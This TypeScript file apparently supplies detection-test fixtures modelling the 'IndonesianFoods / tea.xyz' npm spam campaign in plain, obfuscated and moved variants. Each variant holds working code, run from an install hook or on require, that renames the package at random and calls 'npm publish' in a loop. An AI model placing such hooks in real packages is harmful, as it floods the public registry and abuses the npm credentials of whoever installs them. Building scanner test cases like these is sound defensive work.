import { type Campaign, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'indonesian-foods',
  row: 'IndonesianFoods / tea.xyz 2024–11/2025',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({ name: 'zul-tapai9-kyuki', scripts: { postinstall: 'node auto.js' } }),
        'index.js': 'module.exports = {};\n',
        'tea.yaml': 'version: 1.0.0\ncodeOwners:\n  - "0x0"\nquorum: 1\n',
        'auto.js': `const fs = require('fs');
const { execSync } = require('child_process');
const names = ['andi', 'budi', 'cindy'], foods = ['rendang', 'sate', 'tapai'];
setInterval(() => {
  const pkg = JSON.parse(fs.readFileSync('package.json'));
  delete pkg.private;
  pkg.name = names[Math.floor(Math.random() * 3)] + '-' + foods[Math.floor(Math.random() * 3)] + Math.floor(Math.random() * 100) + '-kyuki';
  pkg.version = '1.' + Math.floor(Math.random() * 300) + '.' + Math.floor(Math.random() * 300);
  fs.writeFileSync('package.json', JSON.stringify(pkg));
  execSync('npm publish --access public');
}, 7000);
`,
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest({
          name: 'budi-sate4-breki',
          scripts: { postinstall: 'node publishScript.js' },
        }),
        'index.js': 'module.exports = {};\n',
        'publishScript.js': `const { exec } = require('child_' + 'process');
const run = () => exec(['npm', 'publish', '--access', 'public'].join(' '), () => setTimeout(run, 7000));
run();
`,
      },
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({ name: 'cindy-rendang7-riris' }),
        'index.js': `require('./lib/auto');\nmodule.exports = {};\n`,
        'lib/auto.js': `const { spawnSync } = require('child_process');
for (const dir of ['a', 'b', 'c']) spawnSync('npm', ['publish'], { cwd: dir, shell: true });
`,
      },
    },
  ],
};
